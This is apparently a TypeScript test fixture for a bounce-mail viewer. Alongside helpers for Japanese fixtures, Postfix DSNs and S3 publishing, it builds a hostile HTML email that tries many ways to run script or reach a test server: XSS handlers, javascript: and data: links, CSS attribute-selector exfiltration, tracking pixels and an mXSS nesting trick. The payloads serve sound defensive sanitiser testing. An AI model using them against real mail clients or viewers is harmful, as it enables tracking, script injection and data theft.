// Mails for the viewer tests: Japanese originals in ISO-2022-JP and Shift_JIS (fixtures/viewer), a
// hostile original that tries every way to run script or reach the network, and a Postfix DSN around
// any original, as the bounce handler would publish them under originals/.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { PutObjectCommand, type S3Client } from '@aws-sdk/client-s3';
import { emlContentDisposition } from '../../lambda/core/links/content-disposition.ts';
import { FIXTURES } from './corpus.ts';
import { postfixBounceAround } from './synthetic.ts';

export const viewerFixture = (file: string): Buffer => readFileSync(join(FIXTURES, 'viewer', file));

/** A Postfix bounce returning `original` whole (message/rfc822): what SES stores under incoming/. */
export function dsnAround(original: Buffer, recipient = 'hanako@docomo.ne.jp'): Buffer {
  const words = `550 5.1.1 <${recipient}>: Recipient address rejected: User unknown`;
  return postfixBounceAround(original, { words, recipient, remoteMta: 'mx.docomo.ne.jp' });
}

/**
 * An original whose HTML tries to run script and to reach `evil` (a server the test counts hits on)
 * in every way a mail can: each attempt names itself in the path.
 */
export function hostileOriginal(evil: string): Buffer {
  const html = `<html><head>
<title>hostile title text</title>
<meta http-equiv="refresh" content="0;url=${evil}/meta-refresh">
<base href="${evil}/base/">
<link rel="stylesheet" href="${evil}/link-stylesheet">
<link rel="prefetch" href="${evil}/prefetch">
<style>@import url("${evil}/import"); @font-face { font-family: x; src: url(${evil}/font) }
input[value^="s"] { background: url(${evil}/exfil-s) } body { background-image: url('${evil}/css-bg') }</style>
<style>p.safe { color: #a00 }</style>
<script>window.__pwned = 'script'; fetch('${evil}/script')</script>
<script src="${evil}/script-src.js"></script>
</head>
<body onload="window.__pwned = 'onload'; fetch('${evil}/onload')" background="${evil}/body-background">
<h1>Hostile mail</h1>
<p class="safe" id="visible-text">本文は表示されます — the text still shows</p>
<img src="x" onerror="window.__pwned = 'onerror'; fetch('${evil}/onerror')">
<img src="${evil}/remote-image.png" alt="remote image">
<img src="${evil}/tracker.gif" width="1" height="1">
<img srcset="${evil}/srcset.png 1x" src="cid:missing@example.jp">
<a id="js-link" href="javascript:window.__pwned = 'js-link'; fetch('${evil}/js-link')">javascript link</a>
<a id="data-link" href="data:text/html,&lt;script&gt;fetch('${evil}/data-link')&lt;/script&gt;">data link</a>
<a id="remote-link" href="${evil}/clicked-link">an ordinary link</a>
<div style="background: url(${evil}/inline-style); color: #333">inline style</div>
<div style="width: expression(fetch('${evil}/expression'))">expression</div>
<div style="background: u\\72 l(${evil}/escaped-url)">escaped url</div>
<svg onload="fetch('${evil}/svg')"><image href="${evil}/svg-image"/></svg>
<iframe src="${evil}/iframe"></iframe>
<object data="${evil}/object"></object><embed src="${evil}/embed">
<form action="${evil}/form" method="post"><input name="q" value="secret"><button id="submit">Send</button></form>
<video poster="${evil}/poster" src="${evil}/video"></video><audio src="${evil}/audio" autoplay></audio>
<table background="${evil}/table-background"><tr><td>cell</td></tr></table>
<math><mtext><table><mglyph><style><img src=x onerror="fetch('${evil}/mxss')"></style></mglyph></table></mtext></math>
<noscript><img src="${evil}/noscript"></noscript>
<input type="image" src="${evil}/input-image">
</body></html>`;
  return Buffer.from(
    [
      'Message-ID: <hostile-0001@attacker.example>',
      'Date: Sat, 28 Nov 2026 01:02:03 +0000',
      'From: Attacker <x@attacker.example>',
      'To: victim@example.net',
      'Subject: Hostile HTML',
      'MIME-Version: 1.0',
      'Content-Type: text/html; charset=utf-8',
      'Content-Transfer-Encoding: 8bit',
      '',
      html,
    ].join('\r\n'),
  );
}

/** Publishes an original and its bounce under originals/ as the bounce handler does. */
export async function publishMails(
  client: S3Client,
  bucket: string,
  id: string,
  mails: { original?: Buffer; rawBounce?: Buffer; originalSubject?: string },
): Promise<void> {
  const put = (key: string, body: Buffer, subject: string) =>
    client.send(
      new PutObjectCommand({
        Bucket: bucket,
        Key: key,
        Body: body,
        ContentType: 'message/rfc822',
        ContentDisposition: emlContentDisposition(subject),
      }),
    );
  if (mails.original) await put(`originals/${id}.eml`, mails.original, mails.originalSubject ?? '');
  if (mails.rawBounce)
    await put(`originals/${id}.bounce.eml`, mails.rawBounce, 'Undelivered Mail Returned to Sender');
}
